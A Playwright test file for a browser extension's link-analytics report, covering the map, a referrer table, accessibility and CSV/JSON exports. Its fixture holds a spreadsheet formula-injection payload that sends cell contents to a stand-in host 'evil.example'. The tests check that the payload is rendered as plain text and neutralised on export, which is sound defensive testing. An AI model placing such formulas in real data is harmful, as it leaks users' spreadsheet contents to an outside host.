/**
 * The report's building blocks on the test build's fixture page (view-fixtures.html): the world
 * map draws from its bundled shapes with its table beside it, referrers grouped by domain, the
 * states a facet can be in, accessibility in light and dark, and the exports a spreadsheet opens.
 */
import { readFile } from 'node:fs/promises';
import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';
import { parseCsv } from '../csv-reader';

async function openFixtures(page: Page, extensionId: string) {
  const external: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(`chrome-extension://${extensionId}/`)) external.push(request.url());
  });
  await page.goto(`chrome-extension://${extensionId}/view-fixtures.html`);
  await expect(page.getByTestId('world-map')).toHaveAttribute('data-drawn', 'true');
  return external;
}

async function seriousViolations(page: Page) {
  const { violations } = await new AxeBuilder({ page }).analyze();
  return violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
}

async function download(page: Page, button: string) {
  const saved = page.waitForEvent('download');
  await page.getByRole('button', { name: button }).click();
  const file = await saved;
  return { name: file.suggestedFilename(), bytes: await readFile((await file.path())!) };
}

test('the world map draws from bundled shapes, with a table holding everything it shows', async ({ page, extensionId }) => {
  const external = await openFixtures(page, extensionId);
  const map = page.getByTestId('world-map');
  await expect(map.locator('canvas')).toHaveAttribute('aria-hidden', 'true');
  const box = await map.locator('canvas').boundingBox();
  expect(box!.width).toBeGreaterThan(300);
  // No map data from the network: every request stayed inside the extension.
  expect(external).toEqual([]);

  const table = page.getByRole('table', { name: 'Clicks by country' });
  await expect(table.getByRole('columnheader')).toHaveText(['Country', 'Clicks', 'Share']);
  const rows = table.locator('tbody tr');
  await expect(rows).toHaveText([/United States\s*1,840\s*48\.6%/, /Germany\s*912/, /United Kingdom/, /Brazil/, /India/, /Japan/, /Location unknown\s*57\s*1\.5%/]);
  await expect(table.locator('tfoot')).toHaveText(/Total\s*3,789\s*100%/);
  await expect(map.getByText('Too small for the map, listed in the table: Singapore')).toBeVisible();

  await page.getByRole('button', { name: 'Show all 8' }).click();
  await expect(rows).toHaveCount(9);
  await expect(rows.nth(6)).toHaveText(/Singapore\s*41/);
  await expect(rows.nth(7)).toHaveText(/Kosovo\s*12/);
  await expect(page.getByRole('button', { name: 'Show fewer' })).toHaveAttribute('aria-expanded', 'true');
});

test('referrers grouped by domain, and what a facet says when it has no numbers', async ({ page, extensionId }) => {
  await openFixtures(page, extensionId);
  const table = page.getByRole('table', { name: 'Referrers by domain' });
  await expect(table.locator('tr.group th')).toHaveText(['Direct', 'www.linkedin.com', 't.co', 'evil.example']);
  await expect(table.locator('tbody').nth(1).locator('tr.nested')).toHaveText([/linkedin\.com\/feed\/\s*640/, /linkedin\.com\/\s*122/]);
  // A hostile referrer is text, not a link.
  await expect(table.getByText('=HYPERLINK(', { exact: false })).toBeVisible();
  await expect(table.locator('a')).toHaveCount(0);

  await expect(page.getByTestId('cities')).toContainText('Needs a higher Bitly plan');
  await expect(page.getByTestId('cities').getByRole('button', { name: /CSV/ })).toHaveCount(0);
  await expect(page.getByTestId('loading')).toHaveAttribute('aria-busy', 'true');
});

test('no serious accessibility problems, light or dark', async ({ page, extensionId }) => {
  await openFixtures(page, extensionId);
  expect(await seriousViolations(page)).toEqual([]);
  await page.emulateMedia({ colorScheme: 'dark' });
  expect(await seriousViolations(page)).toEqual([]);
});

test('exports: CSV a spreadsheet reads (BOM, header, formulas inert), JSON per facet and of the whole report', async ({ page, extensionId }) => {
  await openFixtures(page, extensionId);

  const countries = await download(page, 'Export Clicks by country as CSV');
  expect(countries.name).toBe('bit.ly-Fx7Map1_2026-09-15_2026-10-14_countries.csv');
  expect([...countries.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const csv = parseCsv(countries.bytes.toString('utf8'));
  expect(csv.records[0]).toEqual(['country', 'country_name', 'clicks', 'share_percent']);
  expect(csv.records[1]).toEqual(['US', 'United States', '1840', '48.56']);
  expect(csv.records.at(-1)).toEqual(['Unknown', '', '57', '1.5']);

  const referrers = parseCsv((await download(page, 'Export Referrers by domain as CSV')).bytes.toString('utf8'));
  const hostile = referrers.records.find((r) => r[0] === 'evil.example')!;
  expect(hostile[1]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Open")`);

  const devices = await download(page, 'Export Devices as JSON');
  expect(devices.name).toBe('bit.ly-Fx7Map1_2026-09-15_2026-10-14_devices.json');
  expect(JSON.parse(devices.bytes.toString('utf8')).rows[0]).toEqual({ device_type: 'Mobile', clicks: 2101, share_percent: 55.45 });

  const report = await download(page, 'Export the whole report (JSON)');
  expect(report.name).toBe('bit.ly-Fx7Map1_2026-09-15_2026-10-14_report.json');
  const whole = JSON.parse(report.bytes.toString('utf8'));
  expect(Object.keys(whole.facets).sort()).toEqual(['cities', 'countries', 'devices', 'referrersByDomains']);
  expect(whole.facets.cities).toEqual({ status: 'upgrade-required' });
  expect(whole.subject).toEqual({ type: 'link', id: 'bit.ly/Fx7Map1' });
});
